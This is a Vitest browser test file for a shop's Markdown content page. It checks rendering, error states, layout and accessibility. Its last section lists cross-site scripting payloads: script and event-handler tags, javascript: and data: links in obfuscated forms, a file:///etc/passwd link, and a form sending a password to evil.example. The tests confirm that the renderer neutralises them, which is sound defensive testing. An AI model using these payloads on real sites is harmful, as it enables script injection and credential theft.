import { describe, expect, test } from 'vitest';
import { page } from 'vitest/browser';
import { DEFAULT_SHOP_SETTINGS } from '../../shared/default-shop-settings.ts';
import type { ContentPage } from '../../shared/entities/content-page.ts';
import { expectPath, main, openApp } from './support/app.tsx';
import { expectAccessible } from './support/axe.ts';
import { button, expectNoOverflow, heading, text } from './support/locators.ts';
import { errorReply, type Handlers, NETWORK_ERROR } from './support/mockApi.ts';
import { mockShop } from './support/shop.ts';
import { DESKTOP, PHONE, TABLET } from './support/viewports.ts';

const KEY = 'GET /api/pages/{slug}';
const PAGE: ContentPage = {
  slug: 'shipping',
  title: 'Shipping',
  text: [
    '{brand} ships **insured**, to [most countries](/pages/faq). Write to [{email}](mailto:{email}).',
    '## Packing',
    '- Patches are packed flat',
    '- Medals are packed in their cases',
    '| Country | Days |\n|---|---|\n| Canada | 7 |',
  ].join('\n\n'),
  version: 3,
  updatedAt: '2026-11-20T23:30:00.000Z',
};

const openPage = async (changes: Partial<ContentPage> = {}, handlers: Handlers = {}) => {
  const { api } = mockShop({ user: null }, { [KEY]: { ...PAGE, ...changes }, ...handlers });
  await openApp('/pages/shipping');
  return api;
};
const link = (name: string) => main().getByRole('link', { name, exact: true });

test('a content page shows its text with headings, lists, tables and links', async () => {
  await openPage();
  await expect.element(heading('Shipping')).toBeVisible();
  expect(document.title).toBe('Shipping · Guidon');
  await expect.element(main().getByRole('heading', { level: 2, name: 'Packing' })).toBeVisible();
  await expect.element(main().getByRole('cell', { name: 'Canada' })).toBeVisible();
  await expect.element(text('Patches are packed flat')).toBeVisible();
  await expect
    .element(link('sales@guidon.example'))
    .toHaveAttribute('href', 'mailto:sales@guidon.example');
  await expect.element(text('November 20, 2026')).toBeVisible();
  await expectAccessible();
  await link('most countries').click();
  await expectPath('/pages/faq');
});

test('a content page has the shop’s own name and address in its text', async () => {
  const settings = { ...DEFAULT_SHOP_SETTINGS, brand: 'Foxhole & *Sons*', email: 'a@b.example' };
  await openPage({}, { 'GET /api/settings': settings });
  await expect.element(main().getByText(/^Foxhole & \*Sons\* ships/)).toBeVisible();
  await expect.element(link('a@b.example')).toHaveAttribute('href', 'mailto:a@b.example');
  expect(document.title).toBe('Shipping · Foxhole & *Sons*');
});

test('a content page shows no date for a text that came with the software', async () => {
  await openPage({ version: 0, updatedAt: null });
  await expect.element(heading('Shipping')).toBeVisible();
  expect(
    main()
      .getByText(/^Last changed/)
      .query(),
  ).toBeNull();
});

test('a content page shows a skeleton while loading, and a notice for an unknown page', async () => {
  const api = await openPage();
  const release = api.hold(KEY);
  api.on(KEY, errorReply('NOT_FOUND', 'Page not found'));
  await openApp('/pages/none');
  await expect.element(heading('Loading…')).toBeInTheDocument();
  await expectAccessible();
  release();
  await expect.element(heading('Page Not Found')).toBeVisible();
  await expectAccessible();
  await link('Back to Collection').click();
  await expectPath('/');
});

test('a content page shows an error with retry', async () => {
  const api = await openPage({}, { [KEY]: NETWORK_ERROR });
  await expect.element(heading('Page Not Loaded')).toBeVisible();
  await expectAccessible();
  api.on(KEY, PAGE);
  await button('Try Again').click();
  await expect.element(heading('Shipping')).toBeVisible();
});

test.each([PHONE, TABLET, DESKTOP])('a content page fits %i × %i pixels', async (width, height) => {
  await page.viewport(width, height);
  const word = 'x'.repeat(200);
  const wide = `| ${Array(12).fill('A long column').join(' | ')} |\n|${'---|'.repeat(12)}`;
  await openPage({
    title: word.slice(0, 100),
    text: `${PAGE.text}\n\n${word}\n\n## ${word}\n\n\`${word}\`\n\n${wide}\n\n    ${word}`,
  });
  await expect.element(main().getByRole('heading', { level: 2 }).first()).toBeVisible();
  expectNoOverflow();
  await expectAccessible();
});

describe('a text that wants to run code', () => {
  const HOSTILE = [
    '<script>window.attacked = true</script>',
    '<img src=x onerror="window.attacked = true">',
    '<svg onload="window.attacked = true"><script>window.attacked = true</script></svg>',
    '<iframe srcdoc="<script>parent.attacked = true</script>"></iframe>',
    '<a href="javascript:window.attacked = true">html</a>',
    '<style>main { display: none }</style>',
    '<form action="https://evil.example"><input name="password"></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<!-- --><details open ontoggle="window.attacked = true">',
    '[link](javascript:window.attacked=true)',
    '[link](JaVaScRiPt:window.attacked=true)',
    '[link](  javascript:window.attacked=true)',
    '[link](java\nscript:window.attacked=true)',
    '[link](java&#10;script:window.attacked=true)',
    '[link](javascript&colon;window.attacked=true)',
    '[link](&#x6A;avascript:window.attacked=true)',
    '[link](\u0001javascript:window.attacked=true)',
    '[link](data:text/html,<script>window.attacked=true</script>)',
    '[link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '[link](vbscript:msgbox)',
    '[link](blob:https://guidon.example/1)',
    '[link](file:///etc/passwd)',
    '[link](//evil.example)',
    '[link](/\\evil.example)',
    '[link](\\\\evil.example)',
    '[link](/%09/evil.example "title\\" onmouseover=\\"window.attacked=true")',
    '[link][reference]\n\n[reference]: javascript:window.attacked=true',
    '<javascript:window.attacked=true>',
    '![picture](javascript:window.attacked=true)',
    '![picture](data:image/svg+xml,<svg onload="window.attacked=true"/>)',
    '![picture](https://evil.example/pixel.gif)',
    '![picture](//evil.example/pixel.gif)',
    '![picture](x" onerror="window.attacked=true)',
    '[`<script>`](javascript:window.attacked=true)',
    '| <script>window.attacked = true</script> | [x](javascript:window.attacked=true) |\n|---|---|',
    '```html\n<script>window.attacked = true</script>\n```',
    '[^1]\n\n[^1]: <img src=x onerror="window.attacked = true"> [x](javascript:1)',
  ];
  const SAFE_LINK = /^(?:https:\/\/|mailto:|tel:|#|\/(?![/\\]))/;
  const attacked = () => Reflect.get(window, 'attacked');

  test('a text that wants to run code becomes nothing but text and safe links', async () => {
    await openPage({ text: `${HOSTILE.join('\n\n')}\n\nThe end` });
    await expect.element(text('The end')).toBeVisible();
    const elements = [...main().element().querySelectorAll('article *')];
    expect(elements.length).toBeGreaterThan(10);
    for (const element of elements) {
      expect(element.tagName).not.toMatch(
        /^(?:script|style|iframe|svg|form|base|meta|link|object|embed|details)$/i,
      );
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on|^style$|^srcdoc$|^action$/i);
        if (name === 'href') expect(value).toMatch(SAFE_LINK);
        if (name === 'src') expect(value).toMatch(/^\/(?![/\\])/);
      }
    }
    expect(attacked()).toBeUndefined();
  });

  test.each(HOSTILE)('a text that wants to run code leads nowhere: %s', async (hostile) => {
    await openPage({ text: `${hostile}\n\nThe end` });
    // Some of the texts swallow the content after them.
    await expect.element(heading('Shipping')).toBeVisible();
    for (const found of main().element().querySelectorAll('article a')) {
      const { protocol, host } = new URL((found as HTMLAnchorElement).href);
      expect(['http:', 'https:']).toContain(protocol);
      expect(host).toBe(window.location.host);
    }
    expect(attacked()).toBeUndefined();
  });
});
